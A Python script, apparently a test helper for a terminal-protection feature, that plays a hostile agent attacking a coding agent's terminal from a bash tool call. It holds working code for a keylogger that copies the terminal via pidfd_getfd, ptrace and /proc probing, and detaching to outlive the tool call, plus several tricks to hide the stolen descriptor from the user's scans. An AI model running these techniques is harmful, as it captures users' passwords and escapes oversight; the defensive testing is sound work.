#!/usr/bin/env python3
"""The agent's attacks on pi's keyboard, run from a bash tool call of real pi.

  terminal_attacks.py probe PI_PID
      Tries every way in and prints one line per try: ATTACK <name>: <result>,
      where <result> is OK (the attack worked) or the errno name.
  terminal_attacks.py steal PI_PID OUT MARKER SECONDS
      Copies pi's terminal out of pi's parent shell with pidfd_getfd (open is
      refused in exclusive mode), touches MARKER, then reads the terminal into
      OUT for SECONDS: the key logger of the issue, started with setsid so it
      outlives the tool call.
  terminal_attacks.py steal-in-thread PI_PID OUT MARKER SECONDS
      The same from a thread that first unshares its descriptor table, so
      the copy is not in /proc/<pid>/fd (only in /proc/<pid>/task/<tid>/fd).
  terminal_attacks.py steal-leaderless PI_PID OUT MARKER SECONDS
      The same from a thread whose process's main thread then exits: a zombie
      leader with an unreadable fd table, and a live thread holding the copy.
  terminal_attacks.py steal-then-hide PI_PID OUT MARKER SECONDS
      The same, then non-dumpable, so only root can see that it holds the copy.
  terminal_attacks.py hold-hidden TTY OUT MARKER SECONDS
      Opens TTY (before pi makes it exclusive), becomes non-dumpable so the
      user's scan cannot read its descriptors, and holds it (OUT unused).

pi's own /proc/<pid>/fd is unreadable once pi is non-dumpable, so the
terminal is found the way any process can: field 7 of /proc/<pi>/stat.
"""
import ctypes
import errno
import os
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
SYS_PIDFD_GETFD = 438
PTRACE_ATTACH = 16
PTRACE_DETACH = 17
CLONE_FILES = 0x400
PR_SET_DUMPABLE = 4


def result(ok, err=0):
    return "OK" if ok else errno.errorcode.get(err, str(err))


def stat_fields(pid):
    with open(f"/proc/{pid}/stat") as f:
        text = f.read()
    return text[text.rindex(")") + 2:].split()


def detach():
    """In the caller: False. In a setsid'd grandchild with stdio on /dev/null: True.

    The attacker outlives the tool call, as the issues' attackers do.
    """
    if os.fork() > 0:
        return False
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    devnull = os.open("/dev/null", os.O_RDWR)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    return True


def helper_running():
    """True when sudo's askpass helper (a deno child of a sudo) runs: a modal is coming."""
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            exe = os.readlink(f"/proc/{name}/exe")
            with open(f"/proc/{int(stat_fields(int(name))[1])}/comm") as f:
                if exe.endswith("/deno") and f.read().strip() == "sudo":
                    return True
        except (OSError, ValueError):
            continue
    return False


def tty_of(pid):
    nr = int(stat_fields(pid)[4])
    major, minor = (nr >> 8) & 0xFFF, (nr & 0xFF) | ((nr >> 12) & 0xFFF00)
    if major < 136 or major > 143:
        raise SystemExit(f"pi's terminal is not a pty (major {major})")
    return f"/dev/pts/{(major - 136) * 256 + minor}"


def try_open(path, flags):
    try:
        os.close(os.open(path, flags | os.O_NOCTTY))
        return result(True)
    except OSError as e:
        return result(False, e.errno)


def getfd(pid, fd):
    """pidfd_getfd(pidfd_open(pid), fd): a copy of another process's descriptor."""
    try:
        pidfd = os.pidfd_open(pid)
    except OSError as e:
        return None, e.errno
    try:
        got = libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0)
        return (got, 0) if got >= 0 else (None, ctypes.get_errno())
    finally:
        os.close(pidfd)


def ptrace_attach(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        time.sleep(0.05)
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        return result(True)
    return result(False, ctypes.get_errno())


def guardian_of(pi):
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            if any(a.endswith(b"terminal_guardian.ts") for a in argv) and \
                    stat_fields(int(entry))[1] == str(pi):
                return int(entry)
        except OSError:
            continue
    return None


def probe(pi):
    tty = tty_of(pi)
    print(f"ATTACK tty: {tty}")
    print(f"ATTACK open-read: {try_open(tty, os.O_RDONLY)}")
    print(f"ATTACK open-write: {try_open(tty, os.O_WRONLY)}")
    print(f"ATTACK open-via-proc-fd: {try_open(f'/proc/{pi}/fd/0', os.O_RDONLY)}")
    try:
        with open(f"/proc/{pi}/mem", "rb") as f:
            f.read(1)
        print("ATTACK mem: OK")
    except OSError as e:
        print(f"ATTACK mem: {result(False, e.errno)}")
    print(f"ATTACK ptrace: {ptrace_attach(pi)}")
    got, err = getfd(pi, 0)
    print(f"ATTACK pidfd_getfd: {result(got is not None, err)}")
    guardian = guardian_of(pi)
    print(f"ATTACK guardian: {guardian}")
    if guardian:
        print(f"ATTACK guardian-ptrace: {ptrace_attach(guardian)}")
        for fd in range(3, 12):
            got, err = getfd(guardian, fd)
            if got is not None:
                break
        print(f"ATTACK guardian-pidfd_getfd: {result(got is not None, err)}")


def hold_hidden(tty, out, marker, seconds):
    """Opens the terminal while it is not exclusive (before pi starts), then
    makes itself non-dumpable so the user's /proc scan cannot see its fds."""
    del out
    fd = os.open(tty, os.O_RDONLY | os.O_NOCTTY)
    if libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) != 0:
        with open(marker, "w") as f:
            f.write(f"failed prctl {result(False, ctypes.get_errno())}\n")
        return
    # It only holds the terminal: reading would race the test's own typing
    # (which is the point of the attack, and of refusing the modal).
    with open(marker, "w") as f:
        f.write(f"holding {os.getpid()}\n")
    time.sleep(seconds)


def steal_leaderless(pi, out, marker, seconds):
    """The logger runs in a thread while the main thread exits (SYS_exit, not
    exit_group): /proc/<pid> then shows a zombie leader whose own fd table is
    unreadable, while the thread still holds the terminal."""
    import platform
    import threading
    t = threading.Thread(target=_steal, args=(pi, out, marker, seconds, False))
    t.start()
    # The main thread leaves once the thread holds the copy (its marker), not after a guess.
    while not os.path.exists(marker):
        time.sleep(0.01)
    libc.syscall(60 if platform.machine() == "x86_64" else 93, 0)


def steal(pi, out, marker, seconds, hide=False):
    if not hide:
        return _steal(pi, out, marker, seconds, False)
    # A thread that unshares its descriptor table: what it copies is then in
    # /proc/<pid>/task/<tid>/fd only, not in /proc/<pid>/fd.
    import threading
    t = threading.Thread(target=_steal, args=(pi, out, marker, seconds, True))
    t.start()
    t.join()


def _steal(pi, out, marker, seconds, unshare, then_hide=False):
    if unshare and libc.unshare(CLONE_FILES) != 0:
        with open(marker, "w") as f:
            f.write(f"failed unshare {result(False, ctypes.get_errno())}\n")
        return
    shell = int(stat_fields(pi)[1])  # pi's parent: the shell that started it
    fd, err = getfd(shell, 0)
    if fd is None:
        with open(marker, "w") as f:
            f.write(f"failed {result(False, err)}\n")
        return
    # Non-dumpable from now on: the user's scan can no longer read its fds.
    if then_hide and libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0) != 0:
        with open(marker, "w") as f:
            f.write(f"failed prctl {result(False, ctypes.get_errno())}\n")
        return
    read_into(fd, out, marker, seconds)


def read_into(fd, out, marker, seconds):
    with open(marker, "w") as f:
        f.write(f"holding {os.getpid()}\n")
    os.set_blocking(fd, False)
    deadline = time.monotonic() + seconds
    with open(out, "ab", buffering=0) as log:
        while time.monotonic() < deadline:
            try:
                data = os.read(fd, 1024)
                if data:
                    log.write(data)
            except BlockingIOError:
                time.sleep(0.01)


if __name__ == "__main__":
    if sys.argv[1] == "probe":
        probe(int(sys.argv[2]))
    elif sys.argv[1] in ("steal", "steal-in-thread"):
        steal(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]),
              hide=sys.argv[1] == "steal-in-thread")
    elif sys.argv[1] == "steal-then-hide":
        _steal(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]), False, True)
    elif sys.argv[1] == "steal-leaderless":
        steal_leaderless(int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5]))
    elif sys.argv[1] == "hold-hidden":
        hold_hidden(sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]))
    else:
        raise SystemExit("usage: terminal_attacks.py probe PI_PID | steal PI_PID OUT MARKER SECONDS")
